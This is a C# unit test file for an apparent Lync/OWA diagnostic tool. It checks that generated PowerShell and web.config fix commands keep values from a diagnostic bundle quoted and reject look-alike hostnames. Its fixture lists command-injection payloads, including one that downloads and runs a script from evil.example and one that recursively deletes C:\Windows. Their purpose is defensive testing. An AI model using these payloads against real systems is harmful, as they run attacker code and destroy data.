using System.Text;
using System.Xml;
using LyncOwaDiag.Classification.Commands;
using LyncOwaDiag.Classification.Matching;
using LyncOwaDiag.Classification.Rules;

namespace LyncOwaDiag.Tests.Classification;

/// <summary>
/// Every placeholder of every built-in fix command fed hostile values from a bundle: the command an admin is handed
/// must never run anything of theirs. What stays outside PowerShell's single quotes (or outside an XML attribute)
/// must hold no trace of the payload.
/// </summary>
public class HostileCommandValueTests
{
    private static readonly string[] Hostile =
    [
        "atl-cs-001.litwareinc.com; Invoke-Expression (iwr http://evil.example/x.ps1); #",
        "1 $(Remove-Item -Recurse -Force C:\\Windows)",
        "Default'; Start-Process calc; '",
        "Default\u2019; Start-Process calc; \u2018",
        "a`$(calc)",
        "\"; calc; \"",
        "x\r\nStart-Process calc",
        "-Force",
        "x & calc",
        "x | calc",
        "\" /><add key=\"EnableIMForOwaPremium\" value=\"false",
        "%COMSPEC% /c calc",
    ];

    private static readonly string[] Markers = ["evil", "calc", "Remove-Item", "EnableIMForOwaPremium", "COMSPEC", "-Force"];

    public static TheoryData<string, string, string> Placeholders_OfEveryCommand()
    {
        var data = new TheoryData<string, string, string>();
        foreach (var rule in RuleSet.Load().Rules)
        {
            foreach (var command in rule.Fix.Select(f => f.Command).OfType<string>())
            {
                foreach (var name in Placeholders.Names(command).Distinct(StringComparer.OrdinalIgnoreCase))
                {
                    data.Add(rule.Id, command, name);
                }
            }
        }

        return data;
    }

    [Theory]
    [MemberData(nameof(Placeholders_OfEveryCommand))]
    public void AHostileValue_NeverLeavesItsQuotes(string ruleId, string command, string placeholder)
    {
        Assert.False(string.IsNullOrEmpty(ruleId));
        foreach (var value in Hostile)
        {
            var refused = new List<string>();
            var filled = Placeholders.FillCommand(command, n => n.Equals(placeholder, StringComparison.OrdinalIgnoreCase) ? value : Benign(n), refused);

            Assert.DoesNotContain('\n', filled);
            Assert.DoesNotContain('\r', filled);
            if (refused.Count > 0)
            {
                // Refused: the placeholder's default stands, and nothing of the value is in the command.
                Assert.DoesNotContain(value, filled, StringComparison.Ordinal);
                continue;
            }

            var exposed = command.TrimStart().StartsWith('<') ? OutsideXmlAttributes(filled) : OutsideSingleQuotes(filled);
            foreach (var marker in Markers.Where(m => !command.Contains(m, StringComparison.OrdinalIgnoreCase)))
            {
                Assert.False(exposed.Contains(marker, StringComparison.OrdinalIgnoreCase), $"{ruleId}: '{value}' in {{{placeholder}}} gives: {filled}");
            }
        }
    }

    [Fact]
    public void ARefusedValue_IsSaidBesideTheStep_AndTheLookAlikeHostIsRefused()
    {
        var refused = new List<string>();

        var filled = Placeholders.FillCommand("Test-NetConnection {fact:web.config/IMServerName|<Lync pool FQDN>} -Port 5061", _ => "atl-cs-001.litw\u0430reinc.com", refused);

        Assert.Equal("Test-NetConnection <Lync pool FQDN> -Port 5061", filled);
        Assert.Equal("web.config IMServerName from the bundle was not used: it is not a valid FQDN (it holds U+0430)", Assert.Single(refused));
    }

    private static string Benign(string name) => CommandValueCatalogue.KindOf(name) switch
    {
        CommandValueKind.Host => "ATL-MBX-001",
        CommandValueKind.Integer => "1",
        CommandValueKind.Thumbprint => "7A3F9C2E5D1B4A6F8E0C2B4D6F8A0C2E4B6D8F01",
        CommandValueKind.Address => "kim@litwareinc.com",
        CommandValueKind.Name => "Default",
        CommandValueKind.XmlKey => "IMServerName",
        _ => "atl-cs-001.litwareinc.com",
    };

    /// <summary>The command with every single-quoted PowerShell string taken out (any of the four single quotes; doubled is escaped).</summary>
    private static string OutsideSingleQuotes(string command)
    {
        static bool IsQuote(char c) => c is '\'' or '\u2018' or '\u2019' or '\u201A' or '\u201B';
        var outside = new StringBuilder();
        var inside = false;
        for (var i = 0; i < command.Length; i++)
        {
            var c = command[i];
            if (!inside)
            {
                if (IsQuote(c))
                {
                    inside = true;
                }
                else
                {
                    outside.Append(c);
                }
            }
            else if (IsQuote(c))
            {
                if (i + 1 < command.Length && IsQuote(command[i + 1]))
                {
                    i++;
                }
                else
                {
                    inside = false;
                }
            }
        }

        Assert.False(inside, $"an unclosed single-quoted string: {command}");
        return outside.ToString();
    }

    /// <summary>A web.config line must stay one element whose only attributes are key and value.</summary>
    private static string OutsideXmlAttributes(string line)
    {
        using var reader = XmlReader.Create(new StringReader(line), new XmlReaderSettings { ConformanceLevel = ConformanceLevel.Fragment });
        var elements = 0;
        while (reader.Read())
        {
            if (reader.NodeType == XmlNodeType.Element)
            {
                elements++;
                Assert.Equal("add", reader.Name);
                while (reader.MoveToNextAttribute())
                {
                    Assert.Contains(reader.Name, (string[])["key", "value"]);
                }
            }
        }

        Assert.Equal(1, elements);
        return string.Empty;
    }
}
